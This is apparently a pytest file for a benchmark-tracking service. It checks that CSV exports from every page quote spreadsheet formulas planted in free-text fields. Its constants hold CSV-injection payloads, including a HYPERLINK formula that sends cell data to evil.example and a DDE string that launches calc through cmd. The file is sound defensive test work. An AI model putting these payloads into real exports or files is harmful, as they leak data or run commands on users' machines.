"""Every page's CSV (``format=csv``) with hostile text in every free-text field that can reach it: each goes through
the service's one CSV writer (``app.spreadsheets``), so no cell is a formula a spreadsheet would run."""

import csv
import io

from fastapi.testclient import TestClient

from tests.factories import cell_result, claim, complete, register_worker, submit, sweep_body, upload_log

# Build labels may hold + and - (``[A-Za-z0-9._+-]+``): "+A1" and "-A1+B1" are formulas to a spreadsheet.
BUILDS = ("+A1", "-A1+B1")
VLLM = '=HYPERLINK("http://evil.example/?d="&A1,"0.32.0")'
GPU = "@SUM(A1:A9)"
SWEEP = "=cmd|' /C calc'!A0"
RESOLVED = "+PIECEWISE"
FINGERPRINT = "-1+1"
CRASH_LOG = ('Traceback (most recent call last):\n  File "/w/cell.py", line 9, in <module>\n'
             'RuntimeError: =HYPERLINK("http://evil.example","crash")\n')
PAGES = ["/fallback", "/matrix", "/alarms", "/history", "/compare"]


def _hostile_history(client: TestClient, dataset) -> None:
    """Two builds of an n-gram sweep (eager and piecewise, with a baseline), every result carrying the hostile
    vLLM version, GPU name, resolved graph mode and fingerprint, the second build's piecewise cell accepting less
    (an alarm), and one crash whose log says a formula."""
    worker = register_worker(client, builds=BUILDS)
    for build in BUILDS:
        body = sweep_body(dataset, name=SWEEP, build=build, repeats=1, baseline=True, graph_modes=["NONE", "PIECEWISE"],
                          speculative=[{"method": "ngram", "num_speculative_tokens": 3}], tags=["=tag"])
        assert submit(client, body).status_code == 201
        jobs = [claim(client, worker) for _ in range(4)]
        for job in jobs:
            cell = job["spec"]
            if cell["speculative"] is None and cell["graph_mode"] == "PIECEWISE" and build == BUILDS[1]:
                assert upload_log(client, job["job_id"], worker, CRASH_LOG).status_code == 204
                outcome = {"exit_code": 1, "duration_s": 3}
            else:
                accepted = 10 if build == BUILDS[1] and cell["graph_mode"] == "PIECEWISE" else 30
                result = cell_result(accepted=accepted) | {"output_fingerprint": FINGERPRINT,
                                                           "versions": {"vllm": VLLM, "gpu_name": GPU}}
                outcome = {"result": result, "resolved": {"resolved_backend": "=1", "resolved_graph_mode": RESOLVED},
                           "exit_code": 0}
            assert complete(client, job["job_id"], worker, outcome).status_code == 200


def _cells(client: TestClient, url: str, **params: str) -> list[dict[str, str]]:
    response = client.get(url, params={**params, "format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv"), (url, response.text[:300])
    return list(csv.DictReader(io.StringIO(response.text)))


def _runnable(cell: str) -> bool:
    """What a spreadsheet would run or mangle: a formula start (after whitespace, or full width), or a control
    character first; a number such as -0.05 is data."""
    if not (cell.startswith(("\t", "\r", "\n")) or cell.lstrip().startswith(tuple("=+-@＝＋－＠"))):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_no_page_csv_holds_a_formula_from_any_hostile_field(client: TestClient, dataset) -> None:
    _hostile_history(client, dataset)
    views = [(page, {}) for page in PAGES] + [
        ("/matrix", {"build": BUILDS[1]}), ("/history", {"method": "ngram", "backend": "CPU_ATTN", "graph_mode": "PIECEWISE"}),
        ("/compare", {"base_build": BUILDS[0], "head_build": BUILDS[1]}), ("/alarms", {"build": BUILDS[1]}),
    ]
    seen: set[str] = set()
    for url, params in views:
        rows = _cells(client, url, **params)
        assert rows, (url, params)
        for row in rows:
            assert not [(k, v) for k, v in row.items() if _runnable(v) or _runnable(k)], (url, params, row)
            seen.update(row.values())
    # The hostile values did reach the CSVs, each as text behind a quote.
    assert {"'" + BUILDS[0], "'" + BUILDS[1], "'" + VLLM, "'" + RESOLVED} <= seen


def test_each_page_csv_names_the_hostile_build_and_version_as_text(client: TestClient, dataset) -> None:
    _hostile_history(client, dataset)
    matrix = _cells(client, "/matrix", build=BUILDS[0])
    assert {r["build"] for r in matrix} == {"'+A1"} and {r["vllm_version"] for r in matrix} == {"'" + VLLM}
    [alarm] = _cells(client, "/alarms", build=BUILDS[1])
    assert alarm["build"] == "'-A1+B1" and alarm["alarm_kind"] == "acceptance"
    compare = _cells(client, "/compare", base_build=BUILDS[0], head_build=BUILDS[1])
    assert {(r["build"], r["base_build"]) for r in compare} == {("'-A1+B1", "'+A1")}
    history = _cells(client, "/history", method="ngram", backend="CPU_ATTN", graph_mode="NONE")
    assert [r["build"] for r in history] == ["'+A1", "'-A1+B1"]
    fallback = _cells(client, "/fallback", build=BUILDS[1])
    assert {r["resolved_graph_mode"] for r in fallback if r["runs"] != "0" and r["ran"] != "0"} == {"'" + RESOLVED}
    # Numbers stay numbers: a negative difference is written as one.
    assert float(alarm["difference"]) < 0


def test_the_calibration_csv_holds_no_formula(client: TestClient, dataset) -> None:
    worker = register_worker(client, builds=BUILDS[:1])
    synthetic = {"method": "draft_model", "model": "/m", "num_speculative_tokens": 3, "rejection_sample_method": "synthetic",
                 "synthetic_acceptance_rates": [0.8, 0.5, 0.3]}
    assert submit(client, sweep_body(dataset, name=SWEEP, build=BUILDS[0], repeats=1, speculative=[synthetic])).status_code == 201
    job = claim(client, worker)
    result = cell_result() | {"versions": {"vllm": VLLM, "gpu_name": GPU}}
    assert complete(client, job["job_id"], worker, {"result": result, "exit_code": 0}).status_code == 200
    rows = _cells(client, "/calibration", build=BUILDS[0])
    assert len(rows) == 3 and not [(k, v) for row in rows for k, v in row.items() if _runnable(v) or _runnable(k)]
    assert {(r["build"], r["vllm_version"]) for r in rows} == {("'" + BUILDS[0], "'" + VLLM)}
